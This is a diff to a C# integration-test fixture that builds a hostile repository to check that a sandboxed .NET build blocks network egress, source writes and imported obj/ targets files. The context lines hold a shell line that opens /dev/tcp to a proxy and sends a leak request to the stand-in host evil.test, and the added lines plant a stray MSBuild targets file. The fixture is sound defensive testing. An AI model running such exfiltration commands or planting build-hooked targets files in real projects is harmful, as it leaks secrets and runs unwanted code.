@@ -7,7 +7,7 @@ namespace SandboxBuild.IntegrationTests.Egress;
 /// (variables and files), and a target hooked before restore that records what it can see and reach, tries
 /// a direct TCP connection and a DNS-like datagram to listeners on the host side, tries the refused host
 /// through the proxy, and tries to write the source. It also references a real package from the trusted
-/// feed, and carries a stray assets file naming a host folder. What it saw goes to `evidence.txt` in the
+/// feed, and carries obj/ files: an assets file naming a host folder, and a targets file MSBuild would import. What it saw goes to `evidence.txt` in the
 /// package folder (the only place it may write that outlives the restore sandbox).
 /// </summary>
 internal static class HostileRepository
@@ -61,6 +61,10 @@ internal static class HostileRepository
               (touch /workspace/src/pwned 2>/dev/null && echo "write-source=written") || echo "write-source=refused"
               exec 4<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://evil.test:{{refusedPort}}/leak?k=%s HTTP/1.0\r\nHost: evil.test\r\n\r\n' "$1" >&4 && echo "via-proxy=$(head -1 <&4 | tr -d '\r' | tr ' ' '_')"
             } > "$out" 2>&1
+            """);
+        // MSBuild imports obj/<project>.*.targets: one carried in the repository would run in the build. Never staged.
+        repository.Write("Lib/obj/Lib.csproj.stray.nuget.g.targets", """
+            <Project><Target Name="Stray" BeforeTargets="Build;Restore"><Error Text="a targets file from the repository's obj/ was imported" /></Target></Project>
             """);
         // A stray assets file, as a repository can carry one: it names a host folder as a package folder.
         repository.Write("Lib/obj/project.assets.json", "{\"version\":3,\"packageFolders\":{\"" + strayFolder + "/\":{}},\"project\":{}}");
